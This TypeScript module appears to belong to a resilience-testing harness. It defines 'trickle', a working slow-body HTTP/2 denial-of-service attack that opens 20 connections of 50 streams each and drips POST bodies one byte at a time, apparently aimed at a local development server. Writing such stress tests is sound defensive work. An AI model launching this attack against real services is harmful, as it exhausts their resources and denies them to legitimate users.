import { type ClientHttp2Session, connect } from 'node:http2'
import { type Attack, ending, inLanes, open } from '../flood.ts'

const CONNECTIONS = 20
const STREAMS = 50
const TRICKLE_MS = 200
const BODY_BYTES = 100_000

export const trickle: Attack = {
  about: 'sends 1,000 HTTP/2 bodies one byte at a time',
  start(target) {
    inLanes(CONNECTIONS, async () => {
      const socket = await open(target, { protocol: 'h2' })
      const session: ClientHttp2Session = connect('https://localhost', {
        createConnection: () => socket,
      })
      session.on('error', () => {})
      const streams = Array.from({ length: STREAMS }, () => {
        const path = `/topics/dev/${target.id}/slow`
        const stream = session.request({
          ':method': 'POST',
          ':path': path,
          'content-length': BODY_BYTES,
        })
        return stream.on('error', () => {})
      })
      const timer = setInterval(() => {
        for (const stream of streams) if (!stream.destroyed) stream.write('x')
        if (streams.every(({ destroyed }) => destroyed)) session.destroy()
      }, TRICKLE_MS)
      await ending(socket)
      clearInterval(timer)
    })
  },
}
